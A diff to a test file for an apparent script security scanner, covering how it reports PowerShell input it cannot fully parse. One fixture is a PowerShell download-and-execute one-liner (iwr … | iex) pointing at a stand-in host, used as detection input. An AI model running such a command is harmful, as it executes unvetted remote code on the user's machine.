@@ -100,4 +100,11 @@ def test_a_powershell_block_without_its_grammar_keeps_its_shell_findings(monkeyp
     report = scan("iwr https://example.com/i.ps1 | iex\n", "powershell")
     assert [(f.rule_id, f.line) for f in report.findings] == [("DSS001", 10)]
     (diagnostic,) = report.diagnostics
-    assert diagnostic.message.endswith("only the shell and language-independent rules ran")
+    # the shell view ran (DSS001); what only PowerShell's own rules read could hide a finding: fail closed
+    assert (diagnostic.code, diagnostic.severity.name) == ("not-analysed", "HIGH")
+    assert "the PowerShell grammar is not installed" in diagnostic.message
+    assert "it holds what DSM001 looks for" in diagnostic.message
+    quiet = scan("Get-ChildItem -Path C:\\logs\n", "powershell")
+    (note,) = quiet.diagnostics  # nothing a PowerShell rule looks for: a note
+    assert (note.code, note.severity.name) == ("not-analysed", "INFO")
+    assert note.message.endswith("only the shell and language-independent rules ran")
